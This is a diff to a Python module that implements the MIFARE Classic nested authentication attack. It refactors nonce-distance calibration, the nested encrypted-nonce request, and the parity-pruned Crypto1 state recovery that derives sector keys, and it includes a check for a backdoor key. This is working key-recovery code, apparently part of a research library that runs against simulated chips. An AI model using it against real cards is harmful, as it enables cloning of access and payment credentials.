@@ -115,7 +115,8 @@ def accepts_backdoor_key(chip: M1Chip, block: int = 3) -> bool:
     return try_key(FrameSlot(chip), block, BACKDOOR_KEY, 0x64)
 
 
-def _distance(start: int, end: int, limit: int = 65536) -> int | None:
+def nonce_distance(start: int, end: int, limit: int = 65536) -> int | None:
+    """The PRNG steps from nonce ``start`` to nonce ``end`` (None when ``end`` is not within ``limit`` steps)."""
     x = start
     for n in range(limit):
         if x == end:
@@ -139,7 +140,7 @@ def _calibrate(link: M1Link, uid: int, block: int, key: int, key_type: int) -> i
         reader.authenticate(block, key, key_type)
         first = reader.last_nt
         reader.authenticate(block, key, key_type)
-        distance = _distance(first, reader.last_nt)
+        distance = nonce_distance(first, reader.last_nt)
         if distance is not None:
             distances.append(distance)
     if not distances:
@@ -150,31 +151,41 @@ def _calibrate(link: M1Link, uid: int, block: int, key: int, key_type: int) -> i
 _NestedNonce = tuple[int, int, tuple[int, ...]]  # plain nT of the known sector, {nT} of the target, its parities
 
 
+def nested_request(link: M1Link, reader: M1Reader, target: tuple[int, int]) -> tuple[int, tuple[int, ...]]:
+    """Inside the reader's authenticated session, request an authentication to ``target`` = (block, command):
+    the nonce the card sends encrypted, and its four encrypted parity bits (the reader does not go on)."""
+    assert reader.cipher is not None
+    enc, parities = encrypt_bytes(reader.cipher, with_crc(link, bytes([target[1], target[0]])))
+    answer = link.transceive(Frame(enc, tuple(parities)))
+    if answer is None or len(answer.data) != 4 or len(answer.parity) != 4:
+        raise AttackFailed(f"no encrypted nonce for a nested AUTH {target[1]:02X} {target[0]}")
+    return int.from_bytes(answer.data), answer.parity
+
+
 def _nested_nonce(link: M1Link, uid: int, block: int, key: int, key_type: int, target: tuple[int, int]) -> _NestedNonce:
     """Authenticate with the known key, then request the target: (plain nT of the first, {nT}, parities)."""
     link.power_on()
     reader = M1Reader(link, uid)
     reader.authenticate(block, key, key_type)
-    assert reader.cipher is not None
-    enc, parities = encrypt_bytes(reader.cipher, with_crc(link, bytes([target[1], target[0]])))
-    answer = link.transceive(Frame(enc, tuple(parities)))
-    if answer is None or len(answer.data) != 4 or len(answer.parity) != 4:
-        raise AttackFailed("no encrypted nonce for the nested authentication")
-    return reader.last_nt, int.from_bytes(answer.data), answer.parity
+    return reader.last_nt, *nested_request(link, reader, target)
 
 
-def _key_states(uid: int, nonce: _NestedNonce, guess: int) -> Crypto1 | None:
-    """Cipher states loaded with each key that encrypts ``guess`` as the nested nonce (None when the three
-    parity bits inside the nonce already rule the guess out, which spares the state recovery 7 times in 8)."""
-    _, enc_nt, parities = nonce
-    ks = enc_nt ^ guess
-    guess_bytes = guess.to_bytes(4)
-    if any(parities[i] ^ odd_parity(guess_bytes[i]) != bebit(ks, 8 * (i + 1)) for i in range(3)):
+def key_states(uid: int, nt: int, enc_nt: int, parities: tuple[int, ...]) -> Crypto1 | None:
+    """Cipher states loaded with each key under which a nested authentication to a card ``uid`` sends nonce
+    ``nt`` as ``enc_nt`` with encrypted ``parities`` (None when the parity bits show ``nt`` is not the nonce
+    sent, which spares the state recovery 7 times in 8).
+
+    The first three parity bits are encrypted with keystream bits inside the 32 recovered, so they only check
+    the guess of ``nt``; the fourth, encrypted with the next bit, halves the recovered states.
+    """
+    ks = enc_nt ^ nt
+    plain = nt.to_bytes(4)
+    if len(parities) != 4 or any(parities[i] ^ odd_parity(plain[i]) != bebit(ks, 8 * (i + 1)) for i in range(3)):
         return None
-    states = lfsr_recovery32(ks, guess ^ uid)
-    keep = states.peek() == parities[3] ^ odd_parity(guess_bytes[3])
+    states = lfsr_recovery32(ks, nt ^ uid)
+    keep = states.peek() == parities[3] ^ odd_parity(plain[3])
     states = Crypto1(states.odd[keep], states.even[keep])
-    states.rollback_word(guess ^ uid)
+    states.rollback_word(nt ^ uid)
     return states
 
 
@@ -221,7 +232,7 @@ def nested_attack(
     windows = [np.array([prng_successor(check[0], n) for n in steps], dtype=np.uint64) for check in checks]
     candidates = 0
     for n in steps:
-        states = _key_states(uid, first, prng_successor(first[0], n))
+        states = key_states(uid, prng_successor(first[0], n), first[1], first[2])
         if states is None:
             continue
         for check, guesses in zip(checks, windows, strict=True):
